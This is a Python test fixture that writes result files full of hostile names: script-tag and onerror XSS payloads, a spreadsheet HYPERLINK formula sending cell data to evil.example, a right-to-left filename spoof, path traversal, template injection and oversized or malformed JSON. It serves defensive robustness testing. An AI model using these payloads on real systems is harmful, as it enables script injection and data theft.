"""Results that mean harm."""

from __future__ import annotations

import json
import math
from pathlib import Path

import numpy as np
from tests.sealed import write_sealed

from graphgauge.old.core.result import Chance, Evaluation, Interval, Result, Table

SCRIPT = "<script>window.harmed = 1; alert(1)</script>"
CLOSING = "</script><script>window.harmed = 2</script><!--"
IMAGE = '"><img src=x onerror="window.harmed = 3">'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1)'
TURNED = "safe\u202egnp.exe"
LONG = "a" * 100_000
SURROGATE = "lone \ud800 half"
PATH = "../../x"
TEMPLATE = "{{ 7 * 7 }}{% raw %}$\\frac{"
LINES = "one\u2028two\x00three\x1b[31m"
NAMES = (SCRIPT, CLOSING, IMAGE, FORMULA, TURNED, LONG, SURROGATE, PATH, TEMPLATE, LINES, "日本語 العربية", "-1+2")


def write_hostile(root: Path) -> Path:
    """Every name in every place that a result file has for names."""
    for number, name in enumerate(NAMES):
        for seed in range(2):
            results = [
                Result(
                    key=key,
                    metric=name,
                    value=value,
                    n=10,
                    unit=name,
                    direction="higher",
                    section=name,
                    bounds=(-math.inf, math.inf),
                    interval=Interval(value - 1, value + 1, 0.95, name, name),
                    chance=(Chance(name, 0.5),),
                    conventions={SCRIPT: SCRIPT},
                    warnings=(name,),
                )
                for key, value in (("mrr", number + 0.1 * seed), (name, 1.0), (f"{name}2", math.inf))
            ]
            table = Table(name, {name: np.array(["x", "y"]), "n": np.array([3, 4]), "mrr": np.array([0.1, 0.2])})
            evaluation = Evaluation(
                "ranking",
                results,
                conventions={},
                breakdowns={name: table},
                skipped={name: name},
                notes=(name,),
                run={"method": name, "dataset": "data" if number % 2 else PATH, "seed": seed},
            )
            path = root / f"{number}-{seed}.json"
            # Lone surrogates can stand in JSON, as escapes, but not in UTF-8.
            content = evaluation.to_dict()
            content["findings"] = [
                {
                    "check": name,
                    "severity": "warning",
                    "message": name,
                    "evidence": {name: name},
                    "remedy": name,
                    "ignored": False,
                }
            ]
            content["receipt"] |= {"inputs": [{"name": name, "hash": name}], "started": name}
            content["receipt"]["versions"][name] = name
            path.parent.mkdir(parents=True, exist_ok=True)
            write_sealed(path, content)
    (root / "broken.json").write_text('{"schema": "graphgauge/result/2", "run": ' + "[" * 5000, encoding="utf-8")
    endless = json.loads((root / "0-0.json").read_text(encoding="utf-8"))
    endless["run"]["method"] = "b" * 10_000_000
    write_sealed(root / "endless.json", endless)
    failed = {
        "schema": "graphgauge/result/2",
        "status": "failed",
        "error": SCRIPT,
        "run": {"family": "ranking", "method": SCRIPT, "dataset": "data", "seed": 7},
    }
    write_sealed(root / "failed.json", failed)
    return root
